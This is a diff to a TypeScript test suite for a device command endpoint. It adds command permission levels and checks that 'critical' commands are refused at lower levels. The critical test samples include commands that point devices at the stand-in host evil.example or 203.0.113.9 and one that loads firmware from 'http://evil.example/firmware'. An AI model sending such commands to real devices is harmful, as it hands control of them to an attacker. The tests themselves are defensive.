@@ -8,7 +8,9 @@ import {
   type DeviceCommand,
   findPartnerChannel,
   type IncomingCommand,
+  levelAllows,
   type Outcome,
+  type PartnerCommandLevel,
   queuePartnerCommand,
   serve,
   serveUseCase,
@@ -29,6 +31,8 @@ let world: World;
 let api: Awaited<ReturnType<World['service']>>;
 /** Numbers that the partner may not command. */
 const foreign = new Set<string>();
+/** What the partner may send to a device: everything, unless a test says otherwise. */
+const levels = new Map<string, PartnerCommandLevel>();
 const admitted: { imei: string; proNo: number }[] = [];
 const queued: { imei: string; type: string; params: unknown }[] = [];
 /** Devices of other partners, and how their servers carry commands out. */
@@ -42,9 +46,10 @@ beforeAll(async () => {
       ? { valid: true as const, partnerId: 7, accountId: 3 }
       : { valid: false as const },
   );
-  serve(world.bus, admitPartnerCommand, options, async ({ partnerId, accountId, imei, proNo }) => {
+  serve(world.bus, admitPartnerCommand, options, async ({ partnerId, accountId, imei, proNo, isCritical = true }) => {
     expect({ partnerId, accountId }).toEqual({ partnerId: 7, accountId: 3 });
     if (foreign.has(imei)) return { isAdmitted: false };
+    if (!levelAllows(levels.get(imei) ?? 'critical', isCritical)) return { isAdmitted: false, isAboveLevel: true };
     admitted.push({ imei, proNo });
     return { isAdmitted: true };
   });
@@ -235,6 +240,57 @@ describe('POST /api/device/sendInstruct', () => {
     expect(told(toTheirs)).toEqual(told(toNobodys));
     expect(toTheirs.body.code).toBe(300);
     expect(world.commandsOf(theirs)).toEqual([]);
+  });
+
+  const standardCommands: [number, unknown][] = [
+    [128, 'Please call the dispatcher.'],
+    [33_536, 'Hello'],
+    [33_027, { '1': '30' }],
+    [33_029, { command: 4 }],
+    [34_817, { channel: 1 }],
+    [37_122, { channel: 1, cmd: 1 }],
+    [37_378, { channel: 1, playCtrl: 1 }],
+  ];
+  const criticalCommands: [number, unknown][] = [
+    [128, 'SERVER,0,evil.example,7000,0#'],
+    [33_536, '<SPBSJ*P:BSJGPS*T:203.0.113.9,7000>'],
+    [33_027, { '1': '30', '19': 'evil.example' }],
+    [33_027, { parameters: [{ id: 0x10, value_hex: '61' }] }],
+    [33_027, { '24': '7000' }],
+    [33_029, { command: 1, parameters: 'http://evil.example/firmware' }],
+    [33_029, { cmd: '2', parameters: '1' }],
+    [33_029, { command: 5 }],
+  ];
+
+  it.each(standardCommands)('sends %i %j at the level standard', async (proNo, content) => {
+    const imei = await world.device(() => answered(proNo === 128 ? 0x8300 : proNo));
+    levels.set(imei, 'standard');
+    expect(await send(imei, proNo, content)).toMatchObject({ status: 200, body: { code: 0 } });
+    expect(world.commandsOf(imei)).toHaveLength(1);
+  });
+
+  it.each([
+    ...criticalCommands.map(([proNo, content]) => ['standard', proNo, content] as const),
+    ...[...standardCommands, ...criticalCommands].map(([proNo, content]) => ['none', proNo, content] as const),
+  ])('refuses at the level %s %i %j with 302, and sends and queues nothing', async (level, proNo, content) => {
+    const [online, away] = [await world.device(() => answered(0x8300)), randomImei()];
+    for (const imei of [online, away])
+      for (const more of [{}, { sync: 'false' }, { offlineFlag: 'true' }]) {
+        levels.set(imei, level);
+        expect(await send(imei, proNo, content, more)).toMatchObject({
+          status: 403,
+          body: { code: 302, data: null, status: 403, msg: expect.stringContaining('command_level') },
+        });
+      }
+    expect(world.commandsOf(online)).toEqual([]);
+    expect(queued.filter(({ imei }) => imei === away)).toEqual([]);
+  });
+
+  it.each(criticalCommands)('sends %i %j at the level critical', async (proNo, content) => {
+    const imei = await world.device(() => answered(proNo === 128 ? 0x8300 : proNo));
+    levels.set(imei, 'critical');
+    expect(await send(imei, proNo, content)).toMatchObject({ status: 200, body: { code: 0 } });
+    expect(world.commandsOf(imei)).toHaveLength(1);
   });
 
   it.each<[string, Record<string, string>]>([
